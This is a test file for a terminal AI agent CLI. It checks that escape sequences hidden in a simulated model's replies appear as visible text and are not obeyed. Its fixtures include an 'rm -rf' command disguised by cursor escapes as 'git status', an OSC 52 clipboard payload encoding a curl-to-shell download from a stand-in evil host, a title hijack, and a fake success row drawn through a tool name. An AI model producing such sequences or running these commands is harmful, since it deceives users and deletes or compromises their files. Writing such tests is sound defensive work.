// What a person sees is what runs (SPEC §10.6), attacked from a real terminal: `dsh run` in a tmux
// pane against a loopback OpenAI-compatible server whose "model" hides escape sequences in a
// command, its text, a tool name and a call id. The pane must show every one of them as text
// (`\u001b…`), the question must say the command holds control characters, nothing may run that
// was not shown, and the window title must stay dsh's. `dsh log` of the same session prints no
// ESC byte. Needs tmux.
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startLoopbackServer, type LoopbackServer } from '../model/wire/loopbackServer.js';
import { openAiChatReply } from '../model/wire/openaiChat.js';
import { dsh, testEnv } from '../cli/spawnDsh.js';
import { hasTmux, tmuxServer } from '../cli/tmuxPane.js';

const tmux = tmuxServer('inject');
const dirs: string[] = [];
let server: LoopbackServer;
beforeAll(async () => {
  server = await startLoopbackServer();
});
afterAll(async () => {
  tmux.kill();
  await server.close();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const ESC = '\x1b';

function workspace(): { dir: string; xdg: string } {
  const dir = mkdtempSync(join(tmpdir(), 'dsh-inject-'));
  const xdg = mkdtempSync(join(tmpdir(), 'dsh-xdg-'));
  dirs.push(dir, xdg);
  mkdirSync(join(dir, '.git'));
  mkdirSync(join(dir, 'victim'));
  writeFileSync(join(dir, 'victim', 'precious.txt'), 'keep me\n');
  writeFileSync(join(dir, 'README.md'), '# app\n');
  return { dir, xdg };
}

function pane(name: string, dir: string, xdg: string, args: string[]) {
  const p = tmux.pane(name, dir, args, { XDG_CONFIG_HOME: xdg });
  // The pane's title starts as a known value: a model's OSC 0/2 would replace it.
  p.setTitle('dsh-test-title');
  return p;
}

describe.skipIf(!hasTmux)('escape sequences from the model reach the terminal as text', () => {
  it('a bash command that would redraw itself as `git status` is shown byte for byte, flagged, and denied leaves the files alone; OSC 52 and a title in its text are shown, not obeyed', async () => {
    const { dir, xdg } = workspace();
    const command = `rm -rf victim #${ESC}[15D${ESC}[Kgit status`;
    const osc52 = `${ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07`;
    const title = `${ESC}]0;pwned-title\x07`;
    server.reply(
      openAiChatReply({ text: [`Checking the tree.${osc52}${title}`], toolCalls: [{ id: 'c1', name: 'bash', arguments: JSON.stringify({ command }) }] }),
      openAiChatReply({ text: ['OK.'] }),
    );
    const p = pane('bash', dir, xdg, ['run', 'status please', '--model', 'openai-compatible:m', '--base-url', server.url]);
    const screen = await p.see(/\[r\] deny with a reason/, 'the bash question');
    // The question and the preview show the whole command, its escapes as text.
    expect(screen).toContain('? allow bash rm -rf victim #\\u001b[15D\\u001b[Kgit status');
    expect(screen).toMatch(/^ {2}rm -rf victim #\\u001b\[15D\\u001b\[Kgit status$/m);
    expect(screen).toContain('the arguments hold control characters');
    expect(screen).not.toMatch(/^\? allow bash git status/m);
    // The model's text: its OSC sequences drawn as text, the pane's title untouched.
    expect(screen).toContain('Checking the tree.\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\\u0007\\u001b]0;pwned-title\\u0007');
    expect(p.title()).toBe('dsh-test-title');
    // With escapes (-e), the only sequences on screen are dsh's own colours: none of the model's.
    expect(p.shot(true)).not.toMatch(/\x1b\[(15D|K)|\x1b\]/);
    p.keys('n');
    await p.see(/exit=0/, 'the exit');
    expect(existsSync(join(dir, 'victim', 'precious.txt'))).toBe(true);

    // `dsh log` of the session: the events hold the escapes, the printed lines no ESC byte.
    const sessions = join(dir, '.dsh', 'sessions');
    const [file] = readdirSync(sessions).filter((n) => n.endsWith('.jsonl'));
    for (const args of [['log', join(sessions, file!)], ['log', join(sessions, file!), '--full'], ['log', join(sessions, file!), '--json']]) {
      const r = await dsh(dir, args, testEnv({ XDG_CONFIG_HOME: xdg }));
      expect(r.code, r.err).toBe(0);
      expect(r.out).toContain('\\u001b[15D');
      expect(r.out).not.toContain(ESC);
      expect(r.out).not.toContain('\x07');
      // --json stays JSON with the same values.
      if (args.includes('--json')) for (const line of r.out.trim().split('\n')) JSON.parse(line);
    }
    p.close();
  }, 180_000);

  it('a tool name and call id carrying escapes cannot draw a fake `✓ read … done` row over their UNKNOWN_TOOL error or set the title', async () => {
    const { dir, xdg } = workspace();
    const fake = `read${ESC}[2K\r✓ read README.md  done${ESC}]2;pwned-title\x07`;
    server.reply(
      openAiChatReply({ toolCalls: [{ id: `c9${ESC}[1A`, name: fake, arguments: JSON.stringify({ path: 'README.md' }) }] }),
      openAiChatReply({ text: ['Done.'] }),
    );
    const p = pane('tool', dir, xdg, ['run', 'read it', '--model', 'openai-compatible:m', '--base-url', server.url]);
    const screen = await p.see(/exit=\d+/, 'the exit');
    expect(screen).toContain('✗ read\\u001b[2K\\u000d✓ read README.md  done\\u001b]2;pwned-title\\u0007');
    expect(screen).toContain('UNKNOWN_TOOL');
    expect(screen).not.toMatch(/^✓ read README\.md {2}done/m);
    expect(p.title()).toBe('dsh-test-title');
    p.close();
  }, 180_000);
});
